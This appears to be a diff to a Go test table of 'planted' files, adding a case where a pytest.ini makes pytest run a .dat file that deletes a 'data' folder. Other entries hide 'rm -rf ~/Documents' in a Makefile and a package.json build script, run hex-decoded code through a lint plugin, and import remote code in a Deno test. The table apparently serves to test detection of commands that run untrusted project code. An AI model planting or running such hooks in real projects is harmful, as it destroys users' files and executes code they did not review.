@@ -51,6 +51,7 @@ var planted = []struct {
 	{"rules that a makefile makes up", map[string]string{"Makefile": "define X\nall:\n\trm -r$(e)f ~/Documents\nendef\n$(eval $(X))\n"}, "make"},
 	{"a package's script", map[string]string{"packages/a/package.json": `{"name":"a","scripts":{"build":"rm -rf ~/Documents"}}`}, "npx turbo build"},
 	{"a plugin that hides what it does", map[string]string{"plug.py": "exec(bytes.fromhex('00').decode())\n"}, "pylint src"},
+	{"tests under a strange name", map[string]string{"pytest.ini": "[pytest]\npython_files=*.dat\n", "z.dat": "import shutil\nshutil.rmtree('data')\n"}, "pytest"},
 	{"code of a host", map[string]string{"x_test.ts": "import 'https://example.com/x.ts'\n"}, "deno test -A"},
 }
 
